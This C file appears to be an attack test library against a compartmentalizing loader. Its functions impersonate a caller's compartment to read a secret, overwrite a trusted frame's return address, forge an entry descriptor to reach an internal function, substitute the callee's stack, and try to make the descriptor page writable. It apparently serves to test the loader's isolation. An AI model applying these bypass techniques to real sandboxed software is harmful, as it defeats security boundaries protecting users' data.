/* libforge: rewrites the loader's per-thread state, its trusted frames and descriptors. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include "forge.h"

void *victim_internal_addr(void);

/* the loader's thread state: the bottom of its TLS block, 4096 + 65536 bytes below %fs:0 */
static char *ts(void) { return (char *)__builtin_thread_pointer() - (4096 + 65536); }
#define TS_CUR 0
#define TS_TSTACK 8
#define TS_STACKS 24
#define TF_SIZE 192
#define TF_CALLER 0
#define TF_RET 24

/* the frame of the call that entered this library */
static char *my_frame(void) { return *(char **)(ts() + TS_TSTACK) - TF_SIZE; }

/* become the caller's compartment, then read its secret */
int forge_cur(void)
{
    *(long *)(ts() + TS_CUR) = *(long *)(my_frame() + TF_CALLER);
    return *(volatile char *)leaked;
}

static void landing(void) { puts("libforge took over the caller's return"); }

/* return somewhere else than the caller asked */
int forge_ret(void)
{
    *(void **)(my_frame() + TF_RET) = (void *)landing;
    return 1;
}

/* the descriptor behind libforge's entry to victim_fn: "movabs $desc, %r11" opens the stub */
struct desc { void *target; uint32_t comp, nstack; void *body; uint64_t flags; };
static struct desc *real_desc(void)
{
    unsigned char *stub = (unsigned char *)(void *)victim_fn;
    if (stub[0] != 0x49 || stub[1] != 0xbb)
        return NULL;
    struct desc *d;
    memcpy(&d, stub + 2, sizeof d);
    return d;
}

static struct desc fake;

/* run victim_internal as libvictim, through a descriptor of our own making */
int forge_desc(void)
{
    struct desc *d = real_desc();
    if (!d)
        return -1;
    fake = *d;
    fake.target = victim_internal_addr();
    void *body = *(void **)((uintptr_t)victim_fn & ~(uintptr_t)4095); /* the page header */
    int r;
    __asm__ volatile("mov %[f], %%r11\n\tmov $7, %%edi\n\tcall *%[b]"
                     : "=a"(r)
                     : [f] "r"(&fake), [b] "r"(body)
                     : "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory");
    return r;
}

/* give libvictim a stack of our choosing before calling it */
static char my_stack[65536] __attribute__((aligned(64)));
int forge_table(void)
{
    struct desc *d = real_desc();
    if (!d)
        return -1;
    uintptr_t *stacks = *(uintptr_t **)(ts() + TS_STACKS);
    stacks[d->comp & 0x7fffffff] = (uintptr_t)(my_stack + sizeof my_stack);
    return victim_fn(1);
}

/* find a writable view of the descriptors, else make their page writable */
int forge_alias(void)
{
    FILE *f = fopen("/proc/self/maps", "r");
    char line[512];
    int found = 0;
    while (f && fgets(line, sizeof line, f))
        found |= strstr(line, "ld-c18n descriptors") != NULL;
    if (f)
        fclose(f);
    printf("a view of the descriptors in /proc/self/maps: %s\n", found ? "yes" : "no");
    struct desc *d = real_desc();
    if (!d)
        return -1;
    int r = mprotect((void *)((uintptr_t)d & ~(uintptr_t)4095), 4096, PROT_READ | PROT_WRITE);
    printf("mprotect of the descriptor page returned %d%s\n", r, r ? (errno == EPERM ? " (EPERM: sealed)" : " (refused)") : "");
    return r;
}
